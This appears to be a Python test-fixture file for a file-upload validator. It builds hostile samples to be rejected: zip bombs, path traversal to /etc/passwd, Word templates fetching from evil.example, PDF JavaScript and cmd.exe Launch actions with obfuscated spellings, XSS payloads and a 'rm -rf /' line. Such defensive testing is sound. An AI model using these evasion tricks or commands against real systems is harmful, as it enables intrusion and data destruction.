"""Files that must be refused, each with a word of the sentence that says why."""

import io
import struct
import zipfile
import zlib

from tests.files.ordinary import (
    OOXML,
    docx,
    docx_members,
    jpeg,
    odt,
    office_members,
    open_document,
    pdf,
    png,
    png_part,
    relations,
    stream,
    xlsx,
    zipped,
)

PROGRAM = b"MZ\x90\x00\x03" + bytes(200)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
PAGE = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
DRAWING = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
VBA = '<Override PartName="/word/harmless.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
ODT = "application/vnd.oasis.opendocument.text"


def with_part(name: str, content: bytes | str, more_types: str = "") -> bytes:
    return zipped({**docx_members(more_types), name: content})


def linked(kind: str, target: str) -> bytes:
    rels = relations((kind, target, "External"))
    return with_part("word/_rels/settings.xml.rels", rels)


def macro_enabled() -> bytes:
    members = docx_members()
    types = members["[Content_Types].xml"]
    main = f"{OOXML}.wordprocessingml.document.main+xml"
    macro = "application/vnd.ms-word.document.&#x6d;acroEnabled.main+xml"
    return zipped({**members, "[Content_Types].xml": types.replace(main, macro)})


def bomb() -> bytes:
    """300 MiB of nothing, said to be 300 MiB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as package:
        for name, content in docx_members().items():
            package.writestr(name, content)
        with package.open("word/media/image1.emf", "w") as member:
            for _ in range(300):
                member.write(bytes(2**20))
    return out.getvalue()


def small_bomb() -> bytes:
    """Within the limit on size, but packed far tighter than any document is."""
    return with_part("word/media/image1.emf", bytes(40 * 2**20))


def lying_bomb() -> bytes:
    """Its list of members says ten bytes; it unpacks to 40 MiB."""
    content = small_bomb()
    return content.replace(struct.pack("<I", 40 * 2**20), struct.pack("<I", 10))


def locked_zip() -> bytes:
    """The mark that says a member is encrypted, in the list and before the member."""
    content = bytearray(docx())
    for start, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(start)
        while at != -1:
            content[at + offset] |= 1
            at = content.find(start, at + 4)
    return bytes(content)


def twice() -> bytes:
    """Two members of one name: one for the checker and one for the reader."""
    content = with_part("word/documenX.xml", "<other/>")
    return content.replace(b"word/documenX.xml", b"word/document.xml")


def cut_stream() -> bytes:
    """Packed objects that end before they end: a reader may find more than a checker did."""
    packed = zlib.compress(b"7 0 <</Title(A plan)>>")[:-6]
    return stream(packed, b"/Type/ObjStm/Filter/FlateDecode", packed=False)


HOSTILE = {
    # Names and kinds that are not ours
    "plan.exe": (PROGRAM, "not a kind of file"),
    "no ending": (b"words", "not a kind of file"),
    "drawing.svg": (DRAWING, "not a kind of file"),
    "page.html": (PAGE, "not a kind of file"),
    "macros.docm": (docx(), "not a kind of file"),
    "old.doc": (OLE, "not a kind of file"),
    "archive.zip": (zipped({"a.txt": "words"}), "not a kind of file"),
    "txt.\u202efdp.exe": (PROGRAM, "not a kind of file"),
    "empty.pdf": (b"", "is empty"),
    "large.pdf": (pdf() + bytes(26 * 2**20), "is larger than 25 MB"),
    # One thing under another's name
    "program.pdf": (PROGRAM, "not a whole PDF"),
    "page.pdf": (PAGE, "not a whole PDF"),
    "program.docx": (PROGRAM, "damaged"),
    "sheet.docx": (xlsx(), "damaged"),
    "text.docx": (odt(), "damaged"),
    "document.odt": (docx(), "damaged"),
    "text.ods": (odt(), "damaged"),
    "any zip.xlsx": (zipped({"a.txt": "words"}), "damaged"),
    "renamed.png": (jpeg(), "not a whole PNG"),
    "renamed.jpg": (png(), "not a whole JPEG"),
    "drawing.png": (DRAWING, "not a whole PNG"),
    "document.csv": (docx(), "plain text"),
    # Office files
    "password.docx": (OLE, "password"),
    "locked.docx": (locked_zip(), "password"),
    "macro named otherwise.docx": (with_part("word/harmless.bin", "x", VBA), "macro"),
    "macro enabled.docx": (macro_enabled(), "macro"),
    "macro part.docx": (with_part("word/vbaProject.bin", OLE), "macro"),
    "embedded.docx": (with_part("word/embeddings/oleObject1.bin", OLE), "embedded"),
    "embedded program.docx": (with_part("word/media/image1.png", PROGRAM), "embedded"),
    "embedded zip.docx": (with_part("word/media/a.zip", zipped({"a": "b"})), "embedded"),
    "chart with a macro.docx": (
        with_part("word/embeddings/a.xlsx", with_part("word/vbaProject.bin", OLE)),
        "macro",
    ),
    "a file in a file in a file.docx": (
        with_part("word/embeddings/a.docx", with_part("word/embeddings/b.docx", docx())),
        "embedded",
    ),
    "web template.docx": (linked("attachedTemplate", "https://evil.example/a.dotm"), "fetches"),
    "server template.docx": (linked("attachedTemplate", r"\\evil.example\a\b.dotm"), "fetches"),
    "hidden server.docx": (linked("attachedTemplate", "file:///%5C%5Cevil%5Cb.dotm"), "fetches"),
    "web object.docx": (linked("oleObject", "mhtml:http://evil.example/a.html!x"), "fetches"),
    "entities.docx": (
        with_part("word/a.xml", '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
        "damaged",
    ),
    "entities in utf-16.docx": (
        with_part("word/a.xml", "<!DOCTYPE a><a/>".encode("utf-16")),
        "damaged",
    ),
    "bomb.docx": (bomb(), "unpacks to more"),
    "small bomb.docx": (small_bomb(), "unpacks to more"),
    "lying bomb.docx": (lying_bomb(), "damaged"),
    "many members.docx": (
        zipped({**docx_members(), **{f"word/{n}.xml": "" for n in range(1000)}}),
        "unpacks to more",
    ),
    "climbing.docx": (with_part("word/../../../etc/passwd", "x"), "damaged"),
    "climbing backwards.docx": (with_part("word\\..\\..\\a", "x"), "damaged"),
    "absolute.docx": (with_part("/etc/passwd", "x"), "damaged"),
    "twice.docx": (twice(), "damaged"),
    "something before.docx": (PAGE + docx(), "damaged"),
    "cut short.docx": (docx()[:-40], "damaged"),
    "no main part.docx": (
        zipped(office_members("wordprocessingml.template", "word", "document.xml")),
        "damaged",
    ),
    "macro.odt": (open_document(ODT, **{"Basic/Standard/Module1.xml": "<a/>"}), "macro"),
    "script.odt": (open_document(ODT, **{"Scripts/python/a.py": "import os"}), "macro"),
    "event.odt": (open_document(ODT, **{"a.xml": "<e h='vnd.sun.star.script:a'/>"}), "macro"),
    "object.odt": (open_document(ODT, **{"Object 1": OLE}), "embedded"),
    # PDF
    "script.pdf": (pdf(b"<</S/JavaScript/JS(app.alert(1))>>"), "script"),
    "spelt otherwise.pdf": (pdf(b"<</S /J#61vaScript /#4a#53 (app.alert(1))>>"), "script"),
    "kind elsewhere.pdf": (pdf(b"<</S 4 0 R/J#53 5 0 R>>", b"/JavaScript"), "script"),
    "after a remark.pdf": (pdf(b"<</S%x\n/Launch/F(cmd.exe)>>"), "script"),
    "packed script.pdf": (
        pdf(stream(b"7 0 <</S/JavaScript/JS(app.alert(1))>>", b"/Type/ObjStm/N 1/First 4")),
        "script",
    ),
    "packed script of another kind.pdf": (
        pdf(stream(b"7 0 <</S/Rendition/JS(app.alert(1))>>", b"/Type/ObjStm/N 1/First 4")),
        "script",
    ),
    "packed otherwise.pdf": (
        pdf(b"<</Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]>>\nstream\n00\nendstream"),
        "cannot check",
    ),
    "packed badly.pdf": (
        pdf(b"<</Type/ObjStm/Filter/FlateDecode>>\nstream\n00\nendstream"),
        "cannot check",
    ),
    "packed bomb.pdf": (pdf(stream(bytes(101 * 2**20), b"/Type/ObjStm")), "cannot check"),
    "packed and cut.pdf": (pdf(cut_stream()), "cannot check"),
    "never ending.pdf": (
        pdf(b"%stream\n<</S/Rendition/JS(app.alert(1))>>"),
        "script",
    ),
    "launch.pdf": (pdf(b"<</S/Launch/Win<</F(cmd.exe)>>>>"), "script"),
    "file inside.pdf": (pdf(stream(PROGRAM, b"/Type/EmbeddedFile")), "another file"),
    "file inside, untold.pdf": (pdf(b"<</Type/Filespec/F(a)/EF 9 0 R>>"), "another file"),
    "locked.pdf": (pdf(trailer=b"<</Root 1 0 R/Encrypt 9 0 R>>"), "password"),
    "cut short.pdf": (pdf()[:-10], "not a whole PDF"),
    "zip after.pdf": (pdf() + zipped({"a": "b"}), "not a whole PDF"),
    # Pictures
    "page after.png": (png() + PAGE, "after the end"),
    "zip after.png": (png() + zipped({"a": "b"}), "after the end"),
    "cut short.png": (png()[:-8], "not a whole PNG"),
    "no picture.png": (
        b"\x89PNG\r\n\x1a\n" + png_part(b"IHDR", bytes(13)) + png_part(b"IEND", b""),
        "not a whole PNG",
    ),
    "page after.jpg": (jpeg() + PAGE, "after the end"),
    "program after two.jpg": (jpeg() + jpeg() + PROGRAM, "after the end"),
    "cut short.jpg": (jpeg()[:-2], "not a whole JPEG"),
    "script only.jpg": (b"\xff\xd8\xff/*<script>alert(1)</script>*/", "not a whole JPEG"),
    # Plain text
    "program.txt": (PROGRAM, "plain text"),
    "short program.csv": (b"MZ only", "web page, a script"),
    "page.txt": (b"\n  " + PAGE, "web page, a script"),
    "page.csv": (b"a,b\n1,<script>alert(1)</script>", "web page, a script"),
    "page in utf-16.txt": (PAGE.decode().encode("utf-16"), "web page, a script"),
    "shell.txt": (b"#!/bin/sh\nrm -rf /", "web page, a script"),
    "pdf.txt": (b"\n" + pdf()[:9], "web page, a script"),
    "nothing.txt": (b"a\x00b", "plain text"),
    "nothing in utf-16.txt": ("a\x00b".encode("utf-16"), "plain text"),
    "no encoding.csv": (b"a,b\n\x81\x8d\xff", "plain text"),
}
